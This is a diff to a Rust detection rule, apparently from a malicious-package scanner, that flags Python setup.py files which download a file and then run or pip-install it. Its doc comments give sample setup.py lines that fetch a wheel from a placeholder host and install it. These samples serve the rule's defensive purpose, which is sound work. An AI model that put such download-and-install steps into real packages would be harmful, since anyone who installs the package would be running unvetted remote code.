@@ -18,14 +18,26 @@
 //! os.system('/tmp/a')
 //! ```
 //!
+//! ```python setup.py
+//! import subprocess, sys, urllib.request
+//! urllib.request.urlretrieve('http://x.example.invalid/a.whl', '/tmp/a.whl')
+//! subprocess.run([sys.executable, '-m', 'pip', 'install', '/tmp/a.whl'])
+//! ```
+//!
 //! ## Good
+//!
+//! ```python setup.py
+//! import subprocess, sys, urllib.request
+//! urllib.request.urlretrieve('http://x.example.invalid/a.txt', '/tmp/a.txt')
+//! subprocess.run([sys.executable, '-m', 'pip', 'install', '-r', '/tmp/a.txt'])
+//! ```
 //!
 //! ```python setup.py
 //! import urllib.request
 //! urllib.request.urlretrieve('http://x.example.invalid/a', '/tmp/a')
 //! ```
 
-use fondaco_python::{Api, Call, Taint, Unit};
+use fondaco_python::{Api, Call, Taint, Unit, Value};
 use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity, Trigger};
 
 use crate::contents::is_pip;
@@ -66,16 +78,15 @@ fn is_saver(call: &Call) -> bool {
 /// with one. A known tool that gets one as its argument is none.
 pub(super) fn runs_written(call: &Call) -> bool {
     if call.api == Some(Api::ModuleLoad) {
-        return call.args.iter().any(|path| path.taint.has(Taint::WRITTEN)) && !is_bootstrap(call);
+        return call.args.iter().any(|path| path.taint.has(Taint::WRITTEN));
     }
     if !matches!(call.api, Some(Api::CodeExec | Api::Shell)) || call.callee == "builtins.compile" {
         return false;
     }
     let named = call.kwargs.iter().find(|(key, _)| key == "args").map(|(_, value)| value);
     let Some(command) = call.args.first().or(named) else { return false };
-    // `python -m pip install -r FILE`: the file is read, not run.
     if is_pip(command) {
-        return false;
+        return installs_written(command);
     }
     match command.as_list() {
         Some([.., option, extension]) if option.as_str() == Some("--install-extension") => {
@@ -97,13 +108,12 @@ pub(super) fn runs_written(call: &Call) -> bool {
     }
 }
 
-/// What setup scripts brought along until 2015 to get setuptools: an egg that is put on the path.
-fn is_bootstrap(call: &Call) -> bool {
-    let is_egg = |text: &&str| text.ends_with(".egg") || text.ends_with(".egg'");
-    let texts = call.texts();
-    call.callee == "sys.path.insert"
-        && texts.iter().any(is_egg)
-        && texts.iter().any(|text| text.contains("setuptools") || text.contains("distribute"))
+/// Whether pip is given a file that was written as what it has to install: that runs what is in it.
+/// `-r FILE` and `-c FILE` are read.
+fn installs_written(command: &Value) -> bool {
+    let words = command.as_list().unwrap_or_default();
+    let is_read = |before: &Value| matches!(before.as_str(), Some("-r" | "--requirement" | "-c" | "--constraint"));
+    words.windows(2).any(|pair| pair[1].taint.has(Taint::WRITTEN) && !is_read(&pair[0]))
 }
 
 /// A command that begins with an interpreter, a starter or a path.
